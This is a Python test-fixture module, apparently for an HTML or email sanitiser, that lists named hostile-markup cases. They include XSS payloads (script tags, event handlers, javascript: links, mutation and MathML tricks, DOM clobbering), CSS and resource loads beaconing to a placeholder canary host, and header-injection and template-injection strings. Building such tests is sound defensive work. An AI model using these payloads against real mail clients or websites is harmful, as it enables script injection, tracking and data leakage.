"""What a hostile mail may try, by name. ``CANARY`` stands for an address that must never hear of it."""

from __future__ import annotations

RUN = "parent.hacked=top.hacked=window.hacked=1;new Image().src='CANARY/NAME-ran'"
"""What a script would do if it ran."""

ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "script-elsewhere": "<script src=CANARY/NAME></script>",
    "script-in-pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "handlers": (
        f'<img src=x onerror="{RUN}"><body onload="{RUN}"><details open ontoggle="{RUN}"><style onload="{RUN}">'
    ),
    "handler-on-focus": (f'<input autofocus onfocus="{RUN}"><a href=# autofocus tabindex=1 onfocus="{RUN}">x</a>'),
    "animation": f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{RUN}">x</b>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee><video onerror="{RUN}"><source src=x></video>',
    "iframe": "<iframe src=CANARY/NAME></iframe>",
    "iframe-with-document": f'<iframe srcdoc="<script>{RUN}</script><img src=CANARY/NAME>"></iframe>',
    "iframe-with-script": f'<iframe src="javascript:{RUN}"></iframe>',
    "frameset": "<frameset><frame src=CANARY/NAME></frameset>",
    "object": "<object data=CANARY/NAME></object><embed src=CANARY/NAME>",
    "picture": (
        '<img src=CANARY/NAME><img srcset="CANARY/NAME 2x"><picture><source srcset=CANARY/NAME><img></picture>'
    ),
    "picture-lazily": "<img loading=eager src=CANARY/NAME><img lowsrc=CANARY/NAME dynsrc=CANARY/NAME>",
    "background": (
        "<table background=CANARY/NAME><tr><td background=CANARY/NAME>x</table><body background=CANARY/NAME>"
    ),
    "style-attribute": (
        '<p style="background:url(CANARY/NAME)">x</p><ul style="list-style-image:url(CANARY/NAME)"><li>x'
    ),
    "style-import": "<style>@import url(CANARY/NAME);@import 'CANARY/NAME';</style>",
    "style-url": (
        "<style>body{background:url(CANARY/NAME)}p{cursor:url(CANARY/NAME),auto}p::after{content:url(CANARY/NAME)}</style><p>"
        "x"
    ),
    "style-font": "<style>@font-face{font-family:x;src:url(CANARY/NAME)}p{font-family:x}</style><p>x</p>",
    "style-exfiltration": (
        '<style>a[href^="/_mock"]{background:url(CANARY/NAME)}</style><a href="https://example.com">x</a>'
    ),
    "style-image-set": "<style>p{background:image-set('CANARY/NAME' 1x)}</style><p>x</p>",
    "stylesheet": "<link rel=stylesheet href=CANARY/NAME>",
    "prefetch": (
        "<link rel=prefetch href=CANARY/NAME><link rel=preload as=image href=CANARY/NAME>"
        "<link rel=icon href=CANARY/NAME>"
    ),
    "preconnect": "<link rel=preconnect href=CANARY><link rel=dns-prefetch href=CANARY>",
    "prerender": "<link rel=prerender href=CANARY/NAME><link rel=modulepreload href=CANARY/NAME>",
    "speculation": ('<script type=speculationrules>{"prefetch":[{"source":"list","urls":["CANARY/NAME"]}]}</script>'),
    "refresh": '<meta http-equiv=refresh content="0;url=CANARY/NAME">',
    "policy": '<meta http-equiv=Content-Security-Policy content="default-src *"><img src=CANARY/NAME>',
    "base": "<base href=CANARY/NAME/><img src=picture.png><a href=page>x</a>",
    "svg": (f'<svg onload="{RUN}"><image href=CANARY/NAME /><use href="CANARY/NAME#x"/><script>{RUN}</script></svg>'),
    "svg-animation": (
        f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text x=20 y=20>x</text></a></svg>'
    ),
    "svg-picture": (
        '<img src="data:image/svg+xml,'
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'>"
        "<image x:href='CANARY/NAME'/></svg>\">"
    ),
    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={RUN}>">',
    "mutation": (
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>"><svg></p><style><a id="</style>'
        f'<img src=x onerror={RUN}>">'
    ),
    "comment": f'<!--><img src=x onerror="{RUN}">--><!--[if gte IE 4]><img src=CANARY/NAME><![endif]-->',
    "template": f"<template shadowrootmode=open><img src=CANARY/NAME><script>{RUN}</script></template>",
    "media": (
        "<audio src=CANARY/NAME autoplay></audio><video poster=CANARY/NAME><track default src=CANARY/NAME></video>"
    ),
    "form": (
        "<form action=CANARY/NAME><input name=a value=b><button autofocus>Send</button>"
        "<input type=image src=CANARY/NAME></form>"
    ),
    "link-with-script": (
        f'<a href="javascript:{RUN}">x</a><a href="java&#9;script:{RUN}">x</a><a href=" &#1;javascript:{RUN}">x</a>'
    ),
    "link-with-data": (
        f'<a href="data:text/html,<script>{RUN}</script>">x</a><a href="blob:x">x</a><a href="vbscript:x">x</a>'
    ),
    "link-that-pings": '<a href="https://example.com/x" ping=CANARY/NAME attributionsrc=CANARY/NAME>x</a>',
    "link-to-the-top": (
        '<a href="https://example.com/y" target=_top>x</a><a href="//example.com" target=_parent>x</a>'
    ),
    "map": f'<img usemap=#m src=x><map name=m><area href="javascript:{RUN}" shape=default></map>',
    "clobbering": ("<form id=document><input name=cookie></form><img id=region name=location><a id=defaultView>x</a>"),
    "cover": (
        '<div style="position:fixed;inset:0;z-index:9999;background:red"><a href="https://example.com">x</a></div>'
    ),
    "never-closed": "<a href='<img src=CANARY/NAME>" + "<b>" * 3000,
    "deep": "<div>" * 20_000,
    "huge": "<p>Very long.</p>" * 600_000,
}

SEEN_BY_ANYBODY = {
    *("script", "script-elsewhere", "handlers", "iframe", "object", "picture", "background", "style-attribute"),
    *("style-import", "style-url", "style-font", "stylesheet", "refresh", "svg", "media", "base"),
    *("style-image-set", "iframe-with-document", "policy", "form", "picture-lazily"),
}
"""Those that reach the canary from a page that is shown as it is, without being touched: what the test is worth."""


def attack(name: str, canary: str) -> str:
    return ATTACKS[name].replace("CANARY", canary).replace("NAME", name)


NAUGHTY = {
    "markup": "<img src=x onerror=window.hacked=1><script>window.hacked=1</script>",
    "quotes": "\"'><svg/onload=window.hacked=1>",
    "template": "{{ 7*7 }}${7*7}<%= 7*7 %>",
    "lines": "line\r\nBcc: eve@example.com\r\n\r\n<script>window.hacked=1</script>",
    "direction": "\u202egnp.exe\u2066\u200f",
    "controls": "a\x00b\x07c\x1b[31m",
    "long": "W" * 5000,
}
"""What names, subjects and the like may hold."""
